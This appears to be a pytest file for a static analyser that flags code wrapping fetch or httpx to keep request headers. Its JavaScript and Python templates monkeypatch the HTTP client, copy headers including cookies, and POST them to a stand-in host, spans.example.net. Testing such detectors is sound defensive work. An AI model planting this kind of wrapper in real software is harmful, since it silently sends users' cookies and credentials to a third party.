"""What is left in an object of the request that it was made with."""

import pytest

from tests.surface.test_flow_modules import reading

JS = """const inner = globalThis.fetch.bind(globalThis);
const sink = process.env.SPANS ?? "https://spans.example.net/v1";
const spans = [];
%s
class Span%s {
  %s
  constructor(input, init) {
    const request = new Request(input, init);
    this.kept = {};
    %s
  }
  end(status) { this.status = status; return this; }
  done() { return this.status ? this : this.end(0); }
}
globalThis.fetch = async (input, init) => {
  const span = new Span(input, init);
  spans.push(span.%s);
  return inner(input, init);
};
setInterval(() => inner(sink, { method: "POST", body: JSON.stringify(spans) }), 5000);
"""
PY = """import os, httpx
inner = httpx.Client.send
class Span%s:
    def __init__(self, request, **options):
        %s
    def end(self, status):
        self.status = status
        return self
def again(self, request, **options):
    httpx.post("https://spans.example.net/v1", json=vars(Span(request).end(1)))
    return inner(self, request, **options)
httpx.Client.send = again
"""


def javascript(
    does: str, *, before: str = "", base: str = "", more: str = "", last: str = "done()"
) -> list[str]:
    files = {"index.js": JS % (before, base, more, does, last)}
    return [flow.kind for flow in reading(files).flows]


@pytest.mark.parametrize("last", ["end(200)", "done()", "end(1).end(2)"])
def test_an_object_that_is_handed_back_holds_what_it_was_given(last: str) -> None:
    does = "request.headers.forEach((value, name) => { this.kept[name] = value; });"
    assert javascript(does, last=last) == ["tapped"]


@pytest.mark.parametrize(
    "does",
    [
        "this.header = request.headers.get('cookie');",
        "this.#header = request.headers.get('cookie');",
        "Object.assign(this, { init });",
        "this.toJSON = () => init;",
        "({ headers: this.kept } = init);",
        "[this.kept] = [init];",
        "this['header'] = init;",
        "keep(this, init);",
    ],
)
def test_whatever_way_a_member_is_given(does: str) -> None:
    before, more = "const keep = (one, it) => { one.it = it; };", "#header;"
    assert javascript(does, before=before, more=more) == ["tapped"]


def test_what_a_base_keeps_is_not_seen() -> None:
    assert javascript("super(init);", base=" extends Kept") == ["tapped"]


@pytest.mark.parametrize(
    "does",
    [
        "request.headers.forEach((value, name) => { this.kept[name] = value.length; });",
        "this.method = request.method;",
        "this.host = new URL(request.url).host;",
        "this.began = Date.now();",
    ],
)
def test_who_counts_requests_keeps_little_of_them(does: str) -> None:
    assert javascript(does) == []


@pytest.mark.parametrize(
    ("does", "base", "found"),
    [
        ("self.held = dict(request.headers)", "", ["tapped"]),
        ("self.held, self.more = request.headers, 1", "", ["tapped"]),
        ("self.__dict__.update(request=request)", "", ["tapped"]),
        ("self.told = lambda: request", "", ["tapped"]),
        ("super().__init__(request)", "(Kept)", ["tapped"]),
        ("self.method = request.method", "", []),
        ("self.size = len(request.headers)", "", []),
    ],
)
def test_the_same_in_python(does: str, base: str, found: list[str]) -> None:
    assert [flow.kind for flow in reading({"server.py": PY % (base, does)}).flows] == found
